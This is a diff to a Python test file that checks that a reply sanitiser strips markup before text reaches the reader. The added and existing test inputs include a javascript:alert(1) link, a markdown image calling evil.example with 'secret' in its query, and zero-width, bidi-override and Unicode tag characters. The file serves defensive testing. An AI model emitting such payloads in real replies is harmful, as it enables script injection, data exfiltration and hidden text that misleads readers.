@@ -106,13 +106,16 @@ def test_unknown_markers_are_removed_and_reported(liar: Liar) -> None:
         "[Supervision](javascript:alert(1)) of personal advisers is too infrequent [4].",
         "<think>They want [4]. Perhaps [1].</think>\nSupervision of personal advisers is too infrequent [4].",
         "![x](http://evil.example/?q=secret) Supervision of personal advisers is too infrequent [4].",
+        "Supervision of personal advisers is too infrequent javascript:alert(1) [4].",
+        "<\u2060b>Supervision</\u200bb> of personal advisers is too infrequent [4].",
+        "Supervision\U000e0041\ufe01 of personal advisers is too infrequent [4].",
         "Supervision of personal\u202e advisers is too infrequent [4].",
     ],
 )
 def test_markup_never_reaches_the_reader(liar: Liar, reply: str) -> None:
     written = _write(liar, reply)
     assert [sentence.numbers for sentence in written.shown] == [(4,)]
-    assert not re.search(r"[<>*_\u202e]|http|script|think|evil", written.text.replace(written.note, ""))
+    assert not re.search(r"[<>*_\u202e\ufe01\U000e0041]|http|script|think|evil", written.text.replace(written.note, ""))
     _is_true(written)
 
 
